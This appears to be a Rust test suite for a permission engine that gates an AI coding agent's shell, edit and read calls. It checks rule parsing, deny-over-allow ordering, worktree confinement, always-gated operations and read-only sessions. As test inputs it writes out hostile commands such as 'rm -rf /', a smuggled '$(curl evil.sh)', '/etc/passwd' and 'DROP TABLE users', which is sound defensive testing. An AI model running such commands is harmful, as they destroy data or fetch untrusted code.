//! Permission rules as users write them (Claude Code's syntax), the order of
//! checks, always-gated operations, and read-only sessions.

use overseer_core::rules::{
    always_gated, always_rule, decide, AlwaysGated, Permission, Rule, RuleSet, SessionMode,
    ToolRequest,
};

const WT: &str = "/data/worktrees/web/run-7";

fn bash(command: &str) -> ToolRequest {
    ToolRequest {
        tool: "Bash".into(),
        kind: "execute".into(),
        command: Some(command.into()),
        paths: vec![],
    }
}

fn edit(path: &str) -> ToolRequest {
    ToolRequest {
        tool: "Edit".into(),
        kind: "edit".into(),
        command: None,
        paths: vec![path.into()],
    }
}

fn read(path: &str) -> ToolRequest {
    ToolRequest {
        tool: "Read".into(),
        kind: "read".into(),
        command: None,
        paths: vec![path.into()],
    }
}

fn rules(allow: &[&str], ask: &[&str], deny: &[&str]) -> RuleSet {
    let v = |s: &[&str]| s.iter().map(|x| x.to_string()).collect::<Vec<_>>();
    RuleSet::parse(&v(allow), &v(ask), &v(deny)).expect("valid rules")
}

fn rule(text: &str) -> Rule {
    Rule::parse(text).expect("valid rule")
}

fn gated(req: &ToolRequest) -> Option<AlwaysGated> {
    always_gated(req, WT).map(|(g, _)| g)
}

fn allowed(p: &Permission) -> bool {
    matches!(p, Permission::Allow { .. })
}

#[test]
fn rule_mistakes_say_what_is_wrong_and_show_the_syntax() {
    let err = Rule::parse("Bash(npm test").expect_err("unclosed");
    assert_eq!(
        err.to_string(),
        "rule 'Bash(npm test' is missing its closing ')': write Tool or Tool(specifier), e.g. Bash(npm test:*)"
    );
    assert!(Rule::parse("").is_err());
    assert!(Rule::parse("Edit()")
        .expect_err("empty")
        .to_string()
        .contains("empty specifier"));
    assert!(Rule::parse("(src/**)").is_err());
    assert_eq!(rule(" Bash(npm test:*) ").to_string(), "Bash(npm test:*)");
}

#[test]
fn a_prefix_rule_matches_words_not_characters_and_every_part_of_a_compound_command() {
    let r = rule("Bash(npm test:*)");
    assert!(r.matches(&bash("npm test"), WT));
    assert!(r.matches(&bash("npm test -- --watch"), WT));
    assert!(r.matches(&bash("  npm   test  "), WT));
    assert!(!r.matches(&bash("npm testing"), WT));
    assert!(!r.matches(&bash("npm test && rm -rf /"), WT));
    assert!(r.matches(&bash("npm test && npm test -- --ci"), WT));
    assert!(!r.matches(&bash("npm test $(curl evil.sh)"), WT));
    let exact = rule("Bash(git status)");
    assert!(exact.matches(&bash("git status"), WT));
    assert!(!exact.matches(&bash("git status --porcelain"), WT));
}

#[test]
fn quoted_arguments_are_one_word_and_quotes_do_not_split_commands() {
    let r = rule("Bash(git commit:*)");
    assert!(r.matches(&bash(r#"git commit -m "fix: a && b; c""#), WT));
    let deny = rules(&[], &[], &["Bash(rm:*)"]);
    // `rm` inside a quoted message is not a command.
    assert!(!matches!(
        decide(
            &bash(r#"git commit -m "rm everything""#),
            &[&deny],
            SessionMode::Normal,
            WT
        ),
        Permission::Deny { .. }
    ));
    // Unbalanced quotes never match an allow rule.
    assert!(!r.matches(&bash(r#"git commit -m "oops"#), WT));
}

#[test]
fn path_globs_resolve_dot_dot_and_keep_star_within_a_folder() {
    let src = rule("Edit(src/**)");
    assert!(src.matches(&edit("src/a/b.rs"), WT));
    assert!(src.matches(&edit("./src/x.rs"), WT));
    assert!(src.matches(&edit(&format!("{WT}/src/lib.rs")), WT));
    assert!(!src.matches(&edit("src/../.env"), WT));
    let md = rule("Read(*.md)");
    assert!(md.matches(&read("README.md"), WT));
    assert!(!md.matches(&read("docs/guide.md"), WT));
    let abs = rule("Edit(//data/worktrees/**)");
    assert!(abs.matches(&edit("src/x.rs"), WT));
    // Edit rules cover Write.
    let mut write = edit("src/new.rs");
    write.tool = "Write".into();
    assert!(src.matches(&write, WT));
}

#[test]
fn paths_outside_the_worktree_are_denied_whatever_the_rules() {
    let all = rules(&["Edit"], &[], &[]);
    for p in ["/etc/passwd", "../other-run/src/x.rs", "src/../../x"] {
        match decide(&edit(p), &[&all], SessionMode::Normal, WT) {
            Permission::Deny { rule, .. } => assert_eq!(rule, "confinement", "{p}"),
            other => panic!("{p}: {other:?}"),
        }
    }
}

#[test]
fn deny_beats_allow_across_layers_and_the_task_overrides_the_workspace() {
    let workspace = rules(&[], &[], &["Bash(curl:*)"]);
    let task = rules(&["Bash(curl:*)"], &[], &[]);
    assert!(matches!(
        decide(
            &bash("curl https://x"),
            &[&task, &workspace],
            SessionMode::Normal,
            WT
        ),
        Permission::Deny { .. }
    ));
    let workspace = rules(&[], &["Bash(cargo test:*)"], &[]);
    let task = rules(&["Bash(cargo test:*)"], &[], &[]);
    assert!(allowed(&decide(
        &bash("cargo test -p core"),
        &[&task, &workspace],
        SessionMode::Normal,
        WT
    )));
    // Within one layer, ask beats allow.
    let both = rules(&["Bash(cargo:*)"], &["Bash(cargo publish:*)"], &[]);
    assert!(matches!(
        decide(&bash("cargo publish"), &[&both], SessionMode::Normal, WT),
        Permission::Ask { .. }
    ));
}

#[test]
fn defaults_allow_reads_and_ask_for_edits_and_shell() {
    let none = RuleSet::default();
    assert!(allowed(&decide(
        &read("src/x.rs"),
        &[&none],
        SessionMode::Normal,
        WT
    )));
    assert!(matches!(
        decide(&edit("src/x.rs"), &[&none], SessionMode::Normal, WT),
        Permission::Ask {
            always_gated: None,
            ..
        }
    ));
    assert!(matches!(
        decide(&bash("git commit -m x"), &[&none], SessionMode::Normal, WT),
        Permission::Ask { .. }
    ));
}

#[test]
fn an_always_answer_allows_the_same_call_again_but_never_an_always_gated_one() {
    let req = bash("npm run lint");
    let run = RuleSet {
        allow: vec![always_rule(&req, WT)],
        ..RuleSet::default()
    };
    assert_eq!(run.allow[0].to_string(), "Bash(npm run lint)");
    assert!(allowed(&decide(&req, &[&run], SessionMode::Normal, WT)));
    assert!(!allowed(&decide(
        &bash("npm run build"),
        &[&run],
        SessionMode::Normal,
        WT
    )));
    let rm = bash("rm -rf build/");
    let run = RuleSet {
        allow: vec![always_rule(&rm, WT)],
        ..RuleSet::default()
    };
    assert!(matches!(
        decide(&rm, &[&run], SessionMode::Normal, WT),
        Permission::Ask {
            always_gated: Some(AlwaysGated::DestructiveShell),
            ..
        }
    ));
    assert_eq!(
        always_rule(&edit(&format!("{WT}/src/a.rs")), WT).to_string(),
        "Edit(src/a.rs)"
    );
}

#[test]
fn every_always_gated_category_is_caught_and_ordinary_work_is_not() {
    let cases: &[(&str, ToolRequest, Option<AlwaysGated>)] = &[
        (
            "rm file",
            bash("rm notes.txt"),
            Some(AlwaysGated::DeleteFiles),
        ),
        (
            "git clean",
            bash("git clean -fdx"),
            Some(AlwaysGated::DeleteFiles),
        ),
        (
            "find -delete",
            bash("find . -name '*.o' -delete"),
            Some(AlwaysGated::DeleteFiles),
        ),
        (
            "rm -rf",
            bash("rm -rf build/"),
            Some(AlwaysGated::DestructiveShell),
        ),
        (
            "rm -r in sh -c",
            bash("sh -c 'cd x && rm -r y'"),
            Some(AlwaysGated::DestructiveShell),
        ),
        (
            "sudo rm -fr",
            bash("sudo rm -fr /var/x"),
            Some(AlwaysGated::DestructiveShell),
        ),
        (
            "force push",
            bash("git push --force origin main"),
            Some(AlwaysGated::DestructiveShell),
        ),
        (
            "force push +",
            bash("git push origin +main"),
            Some(AlwaysGated::DestructiveShell),
        ),
        (
            "reset hard",
            bash("git reset --hard HEAD~3"),
            Some(AlwaysGated::DestructiveShell),
        ),
        (
            "drop table",
            bash(r#"psql -c "DROP TABLE users""#),
            Some(AlwaysGated::DropTables),
        ),
        (
            "delete all",
            bash(r#"sqlite3 app.db "delete from sessions""#),
            Some(AlwaysGated::DropTables),
        ),
        (
            "npm add",
            bash("npm install left-pad"),
            Some(AlwaysGated::InstallPackages),
        ),
        (
            "pip",
            bash("pip install requests"),
            Some(AlwaysGated::InstallPackages),
        ),
        (
            "apt",
            bash("apt-get install -y curl"),
            Some(AlwaysGated::InstallPackages),
        ),
        (
            "cargo add",
            bash("cargo add serde"),
            Some(AlwaysGated::InstallPackages),
        ),
        ("edit .env", edit(".env"), Some(AlwaysGated::SecretFiles)),
        (
            "read a key",
            read("certs/server.key"),
            Some(AlwaysGated::SecretFiles),
        ),
        (
            "echo > .env",
            bash("echo X=1 >> .env.local"),
            Some(AlwaysGated::SecretFiles),
        ),
        (
            "prod config",
            edit("config/production.rb"),
            Some(AlwaysGated::ProductionConfig),
        ),
        (
            "prod compose",
            edit("docker-compose.prod.yml"),
            Some(AlwaysGated::ProductionConfig),
        ),
        ("npm test", bash("npm test"), None),
        ("npm ci", bash("npm ci"), None),
        ("npm install (lockfile)", bash("npm install"), None),
        ("git push", bash("git push origin main"), None),
        ("git commit", bash("git commit -am 'rm the old api'"), None),
        ("cat README", bash("cat README.md"), None),
        ("env example", edit(".env.example"), None),
        ("reading prod config", read("config/production.rb"), None),
        ("ordinary edit", edit("src/main.rs"), None),
    ];
    for (what, req, want) in cases {
        assert_eq!(gated(req), *want, "{what}");
    }
}

#[test]
fn a_read_only_session_denies_writes_asks_for_shell_and_allows_known_safe_commands() {
    let none = RuleSet::default();
    let ro = SessionMode::ReadOnly;
    assert!(matches!(
        decide(&edit("src/x.rs"), &[&none], ro, WT),
        Permission::Deny { .. }
    ));
    for safe in [
        "ls -la",
        "git status",
        "git log --oneline | head",
        "cat a.txt && wc -l a.txt",
    ] {
        assert!(allowed(&decide(&bash(safe), &[&none], ro, WT)), "{safe}");
    }
    for unsafe_ in [
        "npm test",
        "echo x > out.txt",
        "find . -exec touch {} ;",
        "git checkout main",
    ] {
        assert!(
            matches!(
                decide(&bash(unsafe_), &[&none], ro, WT),
                Permission::Ask { .. }
            ),
            "{unsafe_}"
        );
    }
}

#[test]
fn rule_sets_round_trip_as_lists_of_strings() {
    let set = rules(&["Bash(npm test:*)"], &["Edit(src/**)"], &["Edit(.env)"]);
    let json = serde_json::to_value(&set).expect("json");
    assert_eq!(
        json,
        serde_json::json!({"allow": ["Bash(npm test:*)"], "ask": ["Edit(src/**)"], "deny": ["Edit(.env)"]})
    );
    let back: RuleSet = serde_json::from_value(json).expect("parse");
    assert_eq!(back, set);
    let bad = serde_json::from_value::<RuleSet>(serde_json::json!({"allow": ["Bash(x"]}));
    assert!(bad.is_err());
}
